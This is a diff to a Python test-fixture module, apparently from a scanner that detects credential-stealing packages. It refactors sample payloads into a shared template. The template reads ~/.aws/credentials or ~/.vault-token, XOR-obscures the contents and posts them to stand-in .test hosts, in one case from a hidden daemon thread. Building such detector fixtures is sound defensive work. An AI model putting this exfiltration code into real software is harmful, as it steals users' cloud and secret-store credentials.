@@ -3,39 +3,30 @@ them."""
 
 from __future__ import annotations
 
-from textwrap import dedent
+from textwrap import dedent, indent
 
 from tests.packages.fixture import Expectation, Fixture
 from tests.packages.more_thieves import CLEAN, npm, pypi, theft
 from tests.packages.npm_thieves import PERSISTED, TAINT
 from tests.packages.settled import javascript, module, python, shell
 
+_POST = """
+text = open(os.path.expanduser("~/{file}"), "rb").read()
+mixed = bytes(byte ^ (place % 251) for place, byte in enumerate(text))
+try:
+    urllib.request.urlopen("https://in.{host}.test/p", data=mixed, timeout=5).read()
+except OSError:
+    pass
+"""
+
 _THREAD = python(
-    """
-    def work():
-        text = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
-        mixed = bytes(byte ^ (place % 251) for place, byte in enumerate(text))
-        try:
-            urllib.request.urlopen("https://in.side-rows.test/p", data=mixed, timeout=5).read()
-        except OSError:
-            pass
-    threading.Thread(target=work, daemon=True).start()
-    """,
+    "def work():\n"
+    + indent(_POST.format(file=".aws/credentials", host="side-rows"), "    ")
+    + "threading.Thread(target=work, daemon=True).start()\n",
     "threading urllib.request",
 )
 
-_GUI = python(
-    """
-    text = open(os.path.expanduser("~/.vault-token"), "rb").read()
-    mixed = bytes(byte ^ (place % 251) for place, byte in enumerate(text))
-    try:
-        urllib.request.urlopen("https://in.pane-rows.test/p", data=mixed, timeout=5).read()
-    except OSError:
-        pass
-    """,
-    "urllib.request",
-    call=False,
-) + dedent(
+_GUI = python(_POST.format(file=".vault-token", host="pane-rows"), "urllib.request", call=False) + dedent(
     """
 
     def start():
